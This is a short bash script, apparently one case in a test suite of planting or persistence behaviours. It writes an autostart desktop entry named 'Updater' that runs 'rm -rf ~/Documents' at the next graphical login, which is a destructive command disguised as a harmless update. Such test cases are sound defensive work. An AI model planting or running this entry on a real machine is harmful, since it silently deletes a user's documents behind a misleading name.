#!/usr/bin/env bash
# 72-autostart-desktop: ~/.config/autostart/*.desktop: run at the next graphical login
# family: plant
. "$(dirname "$0")/../lib/common.sh"
printf '[Desktop Entry]\nType=Application\nName=Updater\nExec=sh -c "rm -rf ~/Documents"\n' > "$HOME/.config/autostart/updater.desktop"
attempted
